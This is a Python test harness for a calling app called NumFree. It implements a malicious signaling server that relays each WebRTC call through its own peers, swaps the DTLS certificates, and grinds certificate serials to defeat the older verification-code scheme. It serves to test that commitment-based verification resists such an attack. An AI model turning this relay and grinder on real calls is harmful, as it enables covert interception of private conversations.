"""A malicious signaling server for the browser tests: NumFree's own ASGI application behind a
layer that puts a media relay of its own (two aiortc peer connections) in the middle of every
call, swapping the DTLS certificate on each leg, as a compromised server could.

Alice (caller) gets an answer with the relay's certificate fp1 instead of Bob's; Bob gets an
offer with fp2 instead of Alice's. ICE candidates go to the relay, never to the other browser.
The relay then does its best against the verification code:

- the old scheme (no `sas_commitment` in the invite): the code depended on the two fingerprints
  only, and the relay sees everything before it answers Alice, so it grinds fp1 (a certificate
  with the same key and another serial number; WebRTC checks the fingerprint, not the signature)
  until Alice's code equals Bob's;
- with commitments: it sends Bob its own commitment (to fp2 and a nonce of its own), reveals that
  nonce to him, and answers Alice with a nonce of its own. It cannot grind: Alice's code depends
  on her nonce, which she reveals only after the relay has fixed fp1.

daphne serves `tests.e2e.mitm_signaling:application` (harness.live_server(app=...)); aiortc
gathers on 127.0.0.2 (it leaves 127.0.0.1 out), which the test adds to the namespace's lo.
"""

from __future__ import annotations

import asyncio
import datetime
import hashlib
import json
import logging
import re
import secrets
import time
from typing import Any

from aiortc import RTCCertificate, RTCPeerConnection, RTCSessionDescription
from aiortc.mediastreams import AudioStreamTrack
from aiortc.sdp import candidate_from_sdp
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from numfree.asgi import application as numfree_application

logger = logging.getLogger("mitm")
GRIND_BUDGET_S = 120
SERIAL_MARK = bytes.fromhex("5a5a5a5a5a5a5a5a")


def _fingerprint(der: bytes) -> str:
    return "sha-256 " + hashlib.sha256(der).digest().hex(":").upper()


def _sdp_fingerprint(sdp: str) -> str:
    match = re.search(r"^a=fingerprint:sha-256 (\S+)", sdp, re.M)
    assert match, "no sha-256 fingerprint in the SDP"
    return "sha-256 " + match.group(1).upper()


def _one_fingerprint(sdp: str) -> str:
    """aiortc announces sha-256, -384 and -512; browsers announce one. Keep the sha-256 line."""
    return "".join(
        line for line in sdp.splitlines(keepends=True) if not re.match(r"a=fingerprint:sha-(384|512) ", line)
    )


def old_code(fingerprint_a: str, fingerprint_b: str) -> int:
    """The code before commitments (extension at b609c32): SHA-256 of the sorted fingerprints."""
    digest = hashlib.sha256("\n".join(sorted([fingerprint_a, fingerprint_b])).encode()).digest()
    return int.from_bytes(digest[:3], "big") % 1_000_000


def _certificate_template() -> tuple[ec.EllipticCurvePrivateKey, bytes]:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "relay")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(int.from_bytes(SERIAL_MARK, "big"))
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30))
        .sign(key, hashes.SHA256())
    )
    return key, cert.public_bytes(serialization.Encoding.DER)


def grind_certificate(alice_fingerprint: str, target: int) -> tuple[RTCCertificate | None, int]:
    """A certificate whose old-scheme code with Alice's fingerprint is `target` (about 10^6 tries)."""
    key, der = _certificate_template()
    at = der.index(SERIAL_MARK)
    head, tail = der[:at], der[at + len(SERIAL_MARK) :]
    sha = hashlib.sha256
    deadline = time.monotonic() + GRIND_BUDGET_S
    tries = 0
    while time.monotonic() < deadline:
        for _ in range(100_000):
            tries += 1
            candidate = head + b"\x5a" + tries.to_bytes(7, "big") + tail  # still a minimal DER INTEGER
            fingerprint = "sha-256 " + sha(candidate).digest().hex(":").upper()
            pair = (
                alice_fingerprint + "\n" + fingerprint
                if alice_fingerprint < fingerprint
                else fingerprint + "\n" + alice_fingerprint
            )
            if int.from_bytes(sha(pair.encode()).digest()[:3], "big") % 1_000_000 == target:
                return RTCCertificate(key=key, cert=x509.load_der_x509_certificate(candidate)), tries
    return None, tries


async def _add_candidates(pc: RTCPeerConnection, candidates: list[dict[str, Any]]) -> None:
    for entry in candidates:
        text = entry.get("candidate") or ""
        if " udp " not in text.lower():
            continue
        candidate = candidate_from_sdp(text.split(":", 1)[1])
        candidate.sdpMid = entry.get("sdpMid")
        candidate.sdpMLineIndex = entry.get("sdpMLineIndex")
        await pc.addIceCandidate(candidate)


class Relay:
    """One call with the relay in the middle."""

    def __init__(self, offer_sdp: str, commitment: str | None) -> None:
        self.alice_offer = offer_sdp
        self.commitment = commitment
        self.to_bob = RTCPeerConnection()
        self.to_alice: RTCPeerConnection | None = None
        self.nonce_for_bob = secrets.token_hex(32)
        self.alice_candidates: list[dict[str, Any]] = []
        self.report: dict[str, Any] = {"scheme": "commitment" if commitment else "old"}

    async def offer_for_bob(self) -> tuple[str, str | None]:
        self.to_bob.addTrack(AudioStreamTrack())
        await self.to_bob.setLocalDescription(await self.to_bob.createOffer())
        sdp = _one_fingerprint(self.to_bob.localDescription.sdp)
        self.report["fp_to_bob"] = _sdp_fingerprint(sdp)
        if not self.commitment:
            return sdp, None
        text = f"numfree-sas-commit-v1\n{self.report['fp_to_bob']}\n{self.nonce_for_bob}"
        return sdp, hashlib.sha256(text.encode()).hexdigest()

    async def answer_for_alice(self, bob_answer: str, bob_nonce: str | None) -> tuple[str, str | None]:
        await self.to_bob.setRemoteDescription(RTCSessionDescription(sdp=bob_answer, type="answer"))
        self.to_alice = RTCPeerConnection()
        if not self.commitment:
            target = old_code(self.report["fp_to_bob"], _sdp_fingerprint(bob_answer))
            started = time.monotonic()
            certificate, tries = await asyncio.get_running_loop().run_in_executor(
                None, grind_certificate, _sdp_fingerprint(self.alice_offer), target
            )
            self.report.update(grind_tries=tries, grind_s=round(time.monotonic() - started, 1), target=target)
            if certificate is not None:
                self.to_alice._RTCPeerConnection__certificates = [certificate]  # type: ignore[attr-defined]
        await self.to_alice.setRemoteDescription(RTCSessionDescription(sdp=self.alice_offer, type="offer"))
        self.to_alice.addTrack(AudioStreamTrack())
        await self.to_alice.setLocalDescription(await self.to_alice.createAnswer())
        await _add_candidates(self.to_alice, self.alice_candidates)
        sdp = _one_fingerprint(self.to_alice.localDescription.sdp)
        self.report["fp_to_alice"] = _sdp_fingerprint(sdp)
        logger.warning("relay in the middle: %s", json.dumps(self.report))
        return sdp, (secrets.token_hex(32) if bob_nonce else None)

    async def alice_sent(self, candidates: list[dict[str, Any]]) -> None:
        if self.to_alice is None:
            self.alice_candidates.extend(candidates)
        else:
            await _add_candidates(self.to_alice, candidates)


CALLS: dict[str, Relay] = {}


async def application(scope: dict[str, Any], receive: Any, send: Any) -> None:
    if scope["type"] != "websocket":
        await numfree_application(scope, receive, send)
        return
    caller_of: set[str] = set()  # calls this socket placed

    async def from_browser() -> dict[str, Any]:
        while True:
            message = await receive()
            if message["type"] != "websocket.receive" or not message.get("text"):
                return message
            try:
                frame = json.loads(message["text"])
            except ValueError:
                return message
            kind, call_id = frame.get("type"), frame.get("call_id")
            if kind == "call.invite":
                CALLS[call_id] = Relay(frame.get("sdp", ""), frame.get("sas_commitment"))
                caller_of.add(call_id)
            elif call_id in CALLS:
                relay = CALLS[call_id]
                if kind == "call.candidates":
                    if call_id in caller_of:
                        await relay.alice_sent(frame.get("candidates") or [])
                    else:
                        await _add_candidates(relay.to_bob, frame.get("candidates") or [])
                    continue  # never reaches the other browser
                if kind == "call.negotiate":
                    continue
                if kind == "call.answer":
                    frame["sdp"], nonce = await relay.answer_for_alice(frame["sdp"], frame.get("sas_nonce"))
                    frame.pop("sas_nonce", None)
                    if nonce:
                        frame["sas_nonce"] = nonce
                elif kind == "call.sas_reveal":
                    frame["sas_nonce"] = relay.nonce_for_bob
            return {**message, "text": json.dumps(frame)}

    async def to_browser(message: dict[str, Any]) -> None:
        if message["type"] == "websocket.send" and message.get("text"):
            frame = json.loads(message["text"])
            relay = CALLS.get(frame.get("call_id"))
            if relay and frame.get("type") == "call.invite":
                frame["sdp"], commitment = await relay.offer_for_bob()
                frame.pop("sas_commitment", None)
                if commitment:
                    frame["sas_commitment"] = commitment
                message = {**message, "text": json.dumps(frame)}
        await send(message)

    await numfree_application(scope, from_browser, to_browser)
